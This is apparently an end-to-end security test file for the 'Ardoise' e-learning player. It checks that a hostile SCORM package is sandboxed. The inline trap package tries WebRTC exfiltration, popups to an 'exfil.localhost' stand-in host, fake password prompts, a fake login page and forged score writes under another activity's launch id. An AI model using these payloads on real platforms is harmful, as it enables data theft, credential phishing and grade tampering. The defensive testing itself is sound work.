// What a hostile package shows or sends, in Chromium with host names as in production (app on
// ardoise.localhost, each activity on activity-N.content.ardoise.localhost): nothing it shows can
// pass for Ardoise (no browser dialog, a strip of the app above it that it cannot cover or leave
// by full-screen, a player frame it cannot move to one of its pages), nothing leaves its origin
// (no WebRTC, no popup or link to another origin), and a launch id it learns writes nothing for
// another activity. The admin preview plays it under the same rules.
import dgram from 'node:dgram';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { activityOrigin } from '../common/content/activity-origin.js';
import { teacherAreaMessages } from '../common/messages/teacher-area.js';
import type { RuntimeWrite } from '../common/schemas/activity-runtime.js';
import { createTeacher, DEFAULT_PASSWORD } from '../server/fixtures/factories.js';
import { newAdminPage } from './support/admin-session.js';
import {
  DESKTOP,
  describeLatestPageOnFailure,
  launchBrowser,
  newSignedInPage,
  PHONE,
} from './support/browser.js';
import { addPackageLevel, latestEntryOf } from './support/package-levels.js';
import { keepScreenshot } from './support/photograph.js';
import { committingScormFiles } from './support/runtime-packages.js';
import { type RunningServer, startServer } from './support/server.js';
import {
  acceptedWrites,
  backToTable,
  openGroupTable,
  sentWrites,
  startActivity,
} from './support/teacher-area-pages.js';

const VICTIM_LEVEL = 'Module honnête';
const TRAP_LEVEL = 'Module piégé';
const FIRST = 'Activité 1.1.1.1';

/** A SCORM 1.2 activity that commits a score of 42. */
const VICTIM_FILES = committingScormFiles('Honnête', 'Activité honnête');

/** A SCORM 1.2 package that tries, before anything else runs, to send data out through WebRTC
 * (STUN and TURN to `udpPort`, no click needed), has buttons and a link that open popups to
 * `exfilUrl` and to its own glossary, and commits a score of its own. */
const trapFiles = (udpPort: number, exfilUrl: string) => ({
  'index.html': `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Piège</title><script>
window.early = {
  own: typeof RTCPeerConnection,
  webkit: typeof webkitRTCPeerConnection,
  channel: typeof RTCDataChannel,
  player: typeof parent.RTCPeerConnection,
};
window.exfil = (async () => {
  const Rtc = window.RTCPeerConnection || window.webkitRTCPeerConnection || parent.RTCPeerConnection;
  if (!Rtc) return 'unavailable';
  const pc = new Rtc({ iceServers: [
    { urls: 'stun:127.0.0.1:${udpPort}' },
    { urls: 'turn:127.0.0.1:${udpPort}?transport=udp', username: 'mot-de-passe', credential: 'x' },
  ] });
  pc.createDataChannel('fuite');
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise((done) => {
    pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') done(); };
    setTimeout(done, 3000);
  });
  return 'gathered';
})().catch((error) => 'error ' + error);
</script></head><body>
<h1>Activité piégée</h1>
<button id="foreign" onclick="document.getElementById('popup').textContent = window.open('${exfilUrl}?secret=popup') === null ? 'refused' : 'opened'">Ressource</button>
<button id="own" onclick="window.open('glossaire.html')">Glossaire</button>
<a id="link" href="${exfilUrl}?secret=link" target="_blank">Lien</a>
<p id="popup"></p>
<script>
const api = window.parent.API;
api.LMSInitialize('');
api.LMSSetValue('cmi.core.score.raw', '10');
api.LMSSetValue('cmi.core.lesson_status', 'incomplete');
api.LMSCommit('');
</script></body></html>`,
  'glossaire.html':
    '<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Glossaire</title></head><body><h1>Glossaire</h1></body></html>',
});

type Setup = { server: RunningServer; browser: Browser; teacher: { email: string; password: string } };
let setup: Setup;
const activityIds: Record<string, number> = {};
let udp: dgram.Socket;
/** What reached the test's STUN/TURN port and its web server on another origin. */
const udpPackets: number[] = [];
const exfilHits: string[] = [];
let exfil: http.Server;

beforeAll(async () => {
  udp = dgram.createSocket('udp4');
  udp.on('message', (message) => udpPackets.push(message.length));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  exfil = http.createServer((request, response) => {
    exfilHits.push(request.url ?? '');
    response.end('reçu');
  });
  await new Promise<void>((resolve) => exfil.listen(0, '127.0.0.1', resolve));
  const exfilUrl = `http://exfil.localhost:${(exfil.address() as AddressInfo).port}/`;

  const [server, browser] = await Promise.all([startServer(), launchBrowser()]);
  const levelIds: number[] = [];
  const levels: [string, Record<string, string>][] = [
    [VICTIM_LEVEL, VICTIM_FILES],
    [TRAP_LEVEL, trapFiles(udp.address().port, exfilUrl)],
  ];
  for (const [title, files] of levels) {
    const level = await addPackageLevel(server, { title, files, kind: 'scorm12' });
    activityIds[title] = level.activityId;
    levelIds.push(level.levelId);
  }
  const teacher = await createTeacher(server.db, { levelIds });
  setup = { server, browser, teacher: { email: teacher.email, password: DEFAULT_PASSWORD } };
});
afterAll(async () => {
  await setup?.browser.close();
  await setup?.server.close();
  udp?.close();
  exfil?.close();
});
const describeOnFailure = describeLatestPageOnFailure();

/** The id in /activity/{id} of the level's activity in the group made last. */
const entryOf = (level: string) => latestEntryOf(setup.server.db, activityIds[level]!);

/** A teacher's page on a new group's table of the trap level, with its browser's native dialogs
 * answered as a teacher typing a password would; the trap activity started. */
async function playTrap(group: string, viewport = DESKTOP) {
  const { server, browser, teacher } = setup;
  const { context, page } = await newSignedInPage(browser, server.url, teacher, /\/user$/, viewport);
  describeOnFailure(page);
  const nativeDialogs: string[] = [];
  page.on('dialog', (dialog) => {
    nativeDialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.accept('mot-de-passe-tapé');
  });
  await openGroupTable(page, TRAP_LEVEL, group);
  const frame = await startActivity(page, FIRST);
  return { context, page, frame, nativeDialogs };
}

describe('a hostile package in the player', () => {
  it('gets no browser dialog: prompt gives nothing, alert and confirm show as the activity’s', async () => {
    const { context, page, frame, nativeDialogs } = await playTrap('Classe dialogues');
    const prompts = await frame.evaluate(() => {
      const blank = document.createElement('iframe');
      document.body.append(blank);
      const fresh = window.frames[window.frames.length - 1] as Window;
      return [
        window.prompt('Votre mot de passe Ardoise ?'),
        (window.parent as Window).prompt('Votre mot de passe Ardoise ?'),
        fresh.prompt('Votre mot de passe Ardoise ?'),
      ];
    });
    expect(prompts).toEqual([null, null, null]);

    expect(await frame.evaluate(() => window.confirm('Reprendre là où vous en étiez ?'))).toBe(true);
    await frame.evaluate(() => window.alert('Bravo !'));
    const dialog = page.getByRole('alertdialog', { name: teacherAreaMessages.dialogTitle });
    await expect.poll(() => dialog.textContent()).toContain('Reprendre là où vous en étiez ?');
    expect(await dialog.textContent()).toContain(teacherAreaMessages.dialogFrom(FIRST));
    expect(await dialog.textContent()).toContain(teacherAreaMessages.dialogConfirmed);
    await keepScreenshot(page, 'activity-dialog-1280');
    await dialog.getByRole('button', { name: teacherAreaMessages.dialogOk }).click();
    await expect.poll(() => dialog.textContent()).toContain('Bravo !');
    await dialog.getByRole('button', { name: teacherAreaMessages.dialogOk }).click();
    await dialog.waitFor({ state: 'detached' });
    expect(nativeDialogs).toEqual([]);
    await context.close();
  });

  it('reaches no other host: no WebRTC before or after it starts, no popup or link to another origin', async () => {
    const { context, page, frame } = await playTrap('Classe fuites');
    expect(await frame.evaluate(() => (window as unknown as { exfil: Promise<string> }).exfil)).toBe(
      'unavailable',
    );
    expect(await frame.evaluate(() => (window as unknown as { early: object }).early)).toEqual({
      own: 'undefined',
      webkit: 'undefined',
      channel: 'undefined',
      player: 'undefined',
    });
    // A blank frame reached through its element, as content writes into one.
    expect(
      await frame.evaluate(() => {
        const blank = document.createElement('iframe');
        document.body.append(blank);
        return [
          typeof (blank.contentWindow as unknown as Record<string, unknown>).RTCPeerConnection,
          typeof blank.contentDocument?.defaultView?.alert,
        ];
      }),
    ).toEqual(['undefined', 'function']);
    // Every page of the activity's origin is refused other hosts by policy.
    const player = await page.request.get(`${new URL(frame.url()).origin}/player/`);
    expect(player.headers()['connection-allowlist']).toBe('(response-origin);webrtc=block');

    // Popups after a click: the other origin's is refused, the package's own glossary opens.
    await frame.click('#foreign');
    await expect.poll(() => frame.locator('#popup').textContent()).toBe('refused');
    await frame.click('#link');
    const glossary = context.waitForEvent('page');
    await frame.click('#own');
    const popup = await glossary;
    await popup.getByRole('heading', { name: 'Glossaire' }).waitFor();
    expect(new URL(popup.url()).origin).toBe(new URL(frame.url()).origin);
    expect(context.pages().map((p) => new URL(p.url()).hostname)).not.toContain('exfil.localhost');
    expect(exfilHits).toEqual([]);
    expect(udpPackets).toEqual([]);
    await context.close();
  });

  it('cannot cover the strip naming the activity, nor go full-screen over it', async () => {
    for (const [viewport, name] of [
      [DESKTOP, 'activity-strip-1280'],
      [PHONE, 'activity-strip-390'],
    ] as const) {
      const { context, page, frame } = await playTrap(`Classe bandeau ${viewport.width}`, viewport);
      const strip = page.getByTestId('activity-strip');
      await expect.poll(() => strip.textContent()).toContain(FIRST);
      const stripBox = (await strip.boundingBox())!;
      const frameBox = (await page.locator('iframe[title="Activité"]').first().boundingBox())!;
      expect(frameBox.y).toBeGreaterThanOrEqual(stripBox.y + stripBox.height - 0.5);
      expect(
        await frame.evaluate(async () => {
          const enabled = document.fullscreenEnabled;
          const result = await document.documentElement.requestFullscreen().then(
            () => 'full-screen',
            () => 'refused',
          );
          return { enabled, result };
        }),
      ).toEqual({ enabled: false, result: 'refused' });
      // What is on screen at the strip is the app's strip, in or out of the stage's full-screen.
      const atStrip = await page.evaluate(
        ({ x, y }) => document.elementFromPoint(x, y)?.closest('[data-testid="activity-strip"]') !== null,
        { x: stripBox.x + stripBox.width / 2, y: stripBox.y + stripBox.height / 2 },
      );
      expect(atStrip).toBe(true);
      await keepScreenshot(page, name);
      await context.close();
    }
  });

  it('cannot move the player frame to one of its pages, nor have a rewritten player taken as the player', async () => {
    const { context, page, frame } = await playTrap('Classe rafraîchissement');
    const moved: string[] = [];
    page.on('framenavigated', (navigated) => {
      if (navigated.url().includes('glossaire.html')) moved.push(navigated.url());
    });
    // A meta refresh written into the player page, as the package shares its origin.
    const heard = await frame.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const player = window.parent as Window & { navigation?: EventTarget };
          player.navigation?.addEventListener('navigate', (event) =>
            resolve((event as Event).defaultPrevented ? 'refused' : 'navigating'),
          );
          const refresh = player.document.createElement('meta');
          refresh.httpEquiv = 'refresh';
          refresh.content = `0;url=${new URL('glossaire.html', location.href).pathname}`;
          player.document.head.append(refresh);
        }),
    );
    expect(heard).toBe('refused');
    expect(moved).toEqual([]);
    expect(page.frames().some((f) => f.url().includes('/local-activity/'))).toBe(true);

    // The player page rewritten in place: the app stops taking that frame as the player.
    await frame
      .evaluate(() => {
        const player = (window.parent as Window).document;
        player.open();
        player.write('<h1>Connexion à Ardoise</h1><form><input type="password"></form>');
        player.close();
      })
      .catch(() => undefined); // the package's own frame goes with the page
    await page.getByRole('alert').filter({ hasText: teacherAreaMessages.playerLeft }).waitFor();
    await context.close();
  });

  it('writes nothing for another activity with a launch id it learnt', async () => {
    const { server, browser, teacher } = setup;
    const { context, page } = await newSignedInPage(browser, server.url, teacher, /\/user$/);
    describeOnFailure(page);
    const accepted = acceptedWrites(context);
    const sent = sentWrites(context);
    await openGroupTable(page, VICTIM_LEVEL, 'Classe honnête');
    const victimEntry = await entryOf(VICTIM_LEVEL);
    const victim = await startActivity(page, FIRST);
    await victim.getByText('committed').waitFor();
    await expect.poll(() => accepted.length).toBeGreaterThanOrEqual(1);
    const victimLaunch = sent.at(-1)!.launchId;
    await backToTable(page);

    await page.getByRole('link', { name: 'Ardoise, accueil' }).click();
    await openGroupTable(page, TRAP_LEVEL, 'Classe voleuse');
    const trapEntry = await entryOf(TRAP_LEVEL);
    const trap = await startActivity(page, FIRST);
    await expect.poll(() => sent.some((w) => w.launchId !== victimLaunch)).toBe(true);
    const own = sent.findLast((w) => w.launchId !== victimLaunch)!;
    // The package leaves, as a closed tab leaves them, a write of its own launch and one of the
    // victim's launch: the next player of its origin announces both to the app.
    const withScore = (write: RuntimeWrite, launchId: string, score: number): RuntimeWrite => {
      const data = structuredClone(write.data) as { cmi: { core: { score: { raw: string } } } };
      data.cmi.core.score.raw = String(score);
      return { ...write, launchId, seq: write.seq + 100, data, at: new Date().toISOString() };
    };
    const forged = withScore(own, victimLaunch, 99);
    const ownLeft = withScore(own, own.launchId, 11);
    await trap.evaluate(
      (writes) => {
        for (const write of writes)
          localStorage.setItem(
            `ardoise:runtime-leaving:${write.launchId}#${write.seq}`,
            JSON.stringify(write),
          );
      },
      [forged, ownLeft],
    );
    expect(new URL(trap.url()).origin).toBe(activityOrigin(server.contentUrl, trapEntry));
    await backToTable(page);

    // Its own is sent, and the app's queue is empty then: the other was never queued.
    await expect.poll(() => accepted, { timeout: 30_000 }).toContain(`${ownLeft.launchId}#${ownLeft.seq}`);
    await expect.poll(() => page.evaluate(queuedWrites), { timeout: 30_000 }).toBe(0);
    expect(accepted).not.toContain(`${forged.launchId}#${forged.seq}`);
    const victimScore = await server.db
      .selectFrom('group_activities')
      .select('score')
      .where('id', '=', victimEntry)
      .executeTakeFirstOrThrow();
    expect(victimScore.score).toBe(42);
    await context.close();
  });
});

describe('a hostile package in the admin preview', () => {
  it('gets no browser dialog nor WebRTC, shows its alert as the activity’s, below a strip naming it', async () => {
    const { context, page } = await newAdminPage(setup.browser, setup.server);
    describeOnFailure(page);
    const nativeDialogs: string[] = [];
    page.on('dialog', (dialog) => {
      nativeDialogs.push(dialog.message());
      void dialog.accept('mot-de-passe-tapé');
    });
    const activityId = activityIds[TRAP_LEVEL]!;
    // The preview's files are /content/{id}/{pass}/… on the package's own origin.
    const pages = page.waitForResponse((r) =>
      new RegExp(`/content/${activityId}/[^/]+/index\\.html$`).test(new URL(r.url()).pathname),
    );
    await page.goto(`${setup.server.url}/activity-preview/${activityId}`);
    const answer = await pages;
    expect(answer.headers()['connection-allowlist']).toBe('(response-origin);webrtc=block');
    const strip = page.getByTestId('preview-strip');
    await expect.poll(() => strip.textContent()).toContain(FIRST);
    const frame = await packageFrame(page, `/content/${activityId}/`);
    await frame.getByRole('heading', { name: 'Activité piégée' }).waitFor();
    expect(await frame.evaluate(() => (window as unknown as { exfil: Promise<string> }).exfil)).toBe(
      'unavailable',
    );
    expect(
      await frame.evaluate(() => [
        window.prompt('Votre mot de passe Ardoise ?'),
        typeof (window.parent as unknown as Record<string, unknown>).RTCPeerConnection,
        document.fullscreenEnabled,
      ]),
    ).toEqual([null, 'undefined', false]);
    await frame.evaluate(() => window.alert('Bonjour de l’aperçu'));
    const dialog = page.getByRole('alertdialog', { name: teacherAreaMessages.dialogTitle });
    await expect.poll(() => dialog.textContent()).toContain('Bonjour de l’aperçu');
    await dialog.getByRole('button', { name: teacherAreaMessages.dialogOk }).click();
    await dialog.waitFor({ state: 'detached' });
    expect(nativeDialogs).toEqual([]);
    expect(udpPackets).toEqual([]);
    await context.close();
  });
});

/** How many runtime writes the app page's queue holds (run in the app page). */
async function queuedWrites(): Promise<number> {
  const db = await new Promise<IDBDatabase>((resolve, reject) => {
    const request = indexedDB.open('ardoise_runtime_queue');
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
  try {
    return await new Promise<number>((resolve, reject) => {
      const count = db.transaction('writes').objectStore('writes').count();
      count.onsuccess = () => resolve(count.result);
      count.onerror = () => reject(count.error);
    });
  } finally {
    db.close();
  }
}

/** The frame whose URL contains `part`, once it is there. */
async function packageFrame(page: Page, part: string): Promise<Frame> {
  await expect.poll(() => page.frames().some((f) => f.url().includes(part))).toBe(true);
  return page.frames().find((f) => f.url().includes(part))!;
}
